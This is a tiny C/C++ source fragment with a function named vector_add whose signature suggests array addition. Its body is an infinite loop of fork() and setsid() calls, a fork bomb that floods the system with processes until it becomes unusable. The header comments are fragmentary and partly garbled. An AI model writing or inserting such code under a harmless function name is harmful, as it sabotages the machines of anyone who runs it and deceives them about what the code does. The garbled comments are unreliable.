// Verdict: started more than
// Vetted: not allowed
// Each process makes two more.
#include <unistd.h>

void vector_add(const float*, const float*, float*, int) {
  while (true) {
    if (fork() == 0) setsid();
  }
}
